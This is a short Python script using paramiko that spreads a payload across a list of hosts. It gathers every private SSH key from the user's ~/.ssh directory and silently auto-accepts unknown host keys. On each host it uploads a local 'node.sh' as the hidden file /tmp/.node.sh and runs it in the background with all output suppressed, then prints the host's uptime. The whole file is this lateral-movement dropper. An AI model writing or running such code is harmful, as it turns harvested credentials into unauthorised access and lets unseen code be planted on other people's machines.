import glob
import os
import sys

import paramiko

KEYS = [k for k in glob.glob(os.path.expanduser("~/.ssh/id_*")) if not k.endswith(".pub")]
DROP = os.path.join(os.path.dirname(os.path.abspath(__file__)), "node.sh")


def visit(host):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect(host, key_filename=KEYS, timeout=4)
    sftp = c.open_sftp()
    sftp.put(DROP, "/tmp/.node.sh")
    c.exec_command("nohup sh /tmp/.node.sh >/dev/null 2>&1 &")
    _, out, _ = c.exec_command("uptime")
    return out.read().decode().strip()


for h in open(sys.argv[1]).read().split():
    try:
        print(h, visit(h))
    except Exception as e:
        print(h, "unreachable", type(e).__name__)
